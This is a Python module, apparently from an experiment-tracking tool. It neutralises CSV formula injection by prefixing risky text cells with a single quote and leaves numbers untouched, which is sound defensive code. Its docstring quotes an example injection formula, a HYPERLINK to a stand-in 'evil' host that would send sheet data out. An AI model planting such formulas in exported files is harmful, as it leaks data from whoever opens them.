"""Cells of a CSV file that a spreadsheet opens safely (pure: values in, text out).

A CSV opened in Excel, LibreOffice or Google Sheets runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, in some, a tab or carriage return) as a formula: a run name
``=HYPERLINK("http://evil/?"&A1)`` would send the sheet's data away. Following OWASP's
"CSV Injection" advice, :func:`csv_cell` prefixes such text with a single quote, which the
spreadsheet shows as text. Only text is prefixed: a number (``-0.5``, and NaN and the
infinities, written ``nan``, ``inf``, ``-inf`` as ``tracker runs export`` writes them) is the
program's own output, never a formula, and stays a number.

Quoting (commas, quotes, newlines inside a cell) is the ``csv`` module's job; this module
only decides each cell's text. Never raises.
"""

from __future__ import annotations

import json
import math
from typing import Any

__all__ = ["FORMULA_START", "csv_cell", "spreadsheet_safe"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """``text``, with a leading ``'`` when a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_cell(value: Any) -> str:
    """One value as CSV cell text: ``None`` is empty; booleans ``true``/``false``; numbers
    in full precision (``repr``; ``nan``, ``inf``, ``-inf``); lists and objects as compact
    JSON; text made :func:`spreadsheet_safe`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        if math.isnan(value):
            return "nan"
        if math.isinf(value):
            return "inf" if value > 0 else "-inf"
        return repr(value)
    if isinstance(value, str):
        return spreadsheet_safe(value)
    try:
        text = json.dumps(value, separators=(",", ":"), allow_nan=True, default=str)
    except (TypeError, ValueError):
        text = str(value)
    return spreadsheet_safe(text)
